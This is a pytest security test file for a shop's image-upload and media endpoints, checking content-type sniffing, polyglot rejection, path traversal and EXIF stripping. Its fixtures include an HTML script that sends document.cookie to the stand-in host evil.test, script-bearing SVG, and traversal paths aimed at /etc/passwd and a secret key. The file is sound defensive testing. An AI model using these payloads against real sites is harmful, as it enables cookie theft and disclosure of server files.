"""Product pictures that lie about themselves: the bytes decide, never the name or the
declared type, and nothing a client names ends up in a storage key or a served type."""

from __future__ import annotations

import io
from typing import Any

import pytest
from PIL import ExifTags, Image

from tests.integration.catalog_shop import Client, picture
from tests.integration.conftest import MakeUser
from tests.security.shop import Shop, expect, open_shop

SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
HTML = b"<!doctype html><script>document.location='//evil.test/'+document.cookie</script>"
GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF"


async def _upload(client: Client, shop: Shop, name: str, data: bytes, declared: str) -> Any:
    return await client.post(
        f"/api/products/{shop.ids['product']}/images",
        files={"file": (name, data, declared)},
        headers=shop.manager.headers,
    )


@pytest.mark.parametrize(
    ("name", "data", "declared"),
    [
        ("cat.png", SVG, "image/png"),
        ("cat.svg", SVG, "image/svg+xml"),
        ("cat.jpg", HTML, "image/jpeg"),
        ("cat.gif", GIF, "image/gif"),
        ("cat.webp", PDF, "image/webp"),
    ],
)
async def test_anything_but_jpeg_png_or_webp_is_415(
    client: Client, make_user: MakeUser, name: str, data: bytes, declared: str
) -> None:
    shop = await open_shop(client, make_user)
    response = await _upload(client, shop, name, data, declared)
    assert (response.status_code, response.json()["code"]) == (415, "unsupported_media_type")
    product = await expect(client.get(f"/api/products/{shop.ids['product']}"), 200)
    assert len(product.json()["images"]) == 1  # only open_shop's own picture


async def test_a_png_header_on_html_is_refused(client: Client, make_user: MakeUser) -> None:
    shop = await open_shop(client, make_user)
    polyglot = picture("PNG")[:16] + HTML
    response = await _upload(client, shop, "cat.png", polyglot, "image/png")
    assert (response.status_code, response.json()["code"]) == (422, "invalid_image")


async def test_the_bytes_decide_the_type_and_the_name_is_not_kept(
    client: Client, make_user: MakeUser
) -> None:
    shop = await open_shop(client, make_user)
    response = await _upload(client, shop, "../../../etc/passwd.php", picture("PNG"), "text/html")
    assert response.status_code == 201, response.text
    image = response.json()
    assert image["content_type"] == "image/png"
    assert image["url"].endswith(".png")
    assert not any(part in image["url"] for part in ("..", "passwd", "php"))
    served = await client.get(image["url"])
    assert served.status_code == 200
    assert served.headers["content-type"] == "image/png"
    assert served.headers["x-content-type-options"] == "nosniff"


async def test_a_picture_sent_as_json_or_plain_form_is_refused(
    client: Client, make_user: MakeUser
) -> None:
    shop = await open_shop(client, make_user)
    path, staff = f"/api/products/{shop.ids['product']}/images", shop.manager.headers
    for response in [
        await client.post(path, json={"file": "iVBORw0KGgo="}, headers=staff),
        await client.post(path, data={"file": "not a file"}, headers=staff),
        await client.post(path, files={"file": ("cat.png", b"", "image/png")}, headers=staff),
        await client.post(
            path,
            content=b"--x\r\nContent-Disposition: form-data; name=file\r\n\r\nbroken",
            headers={**staff, "Content-Type": "multipart/form-data; boundary=x"},
        ),
    ]:
        assert 400 <= response.status_code < 500, response.text


async def test_media_paths_cannot_climb_out_of_storage(client: Client) -> None:
    for path in [
        "/media/../pyproject.toml",
        "/media/%2e%2e/%2e%2e/etc/passwd",
        "/media/..%2fsecret_key",
    ]:
        response = await client.get(path)
        assert response.status_code in (400, 404), f"{path}: {response.status_code}"


async def test_a_stored_picture_has_no_gps_position_and_no_trailer(
    client: Client, make_user: MakeUser
) -> None:
    shop = await open_shop(client, make_user)
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "SpyCam 3000"
    exif.get_ifd(ExifTags.IFD.GPSInfo)[ExifTags.GPS.GPSLatitude] = (51.0, 30.0, 12.5)
    buffer = io.BytesIO()
    Image.new("RGB", (8, 6), (40, 160, 60)).save(buffer, format="JPEG", exif=exif)
    sent = buffer.getvalue() + HTML
    assert b"SpyCam" in sent

    response = await _upload(client, shop, "cat.jpg", sent, "image/jpeg")

    assert response.status_code == 201, response.text
    stored = await client.get(response.json()["url"])
    assert stored.status_code == 200
    assert b"SpyCam" not in stored.content and b"<script" not in stored.content
    assert response.json()["size"] == len(stored.content)
    with Image.open(io.BytesIO(stored.content)) as kept:
        assert not kept.getexif()
        assert kept.size == (8, 6)
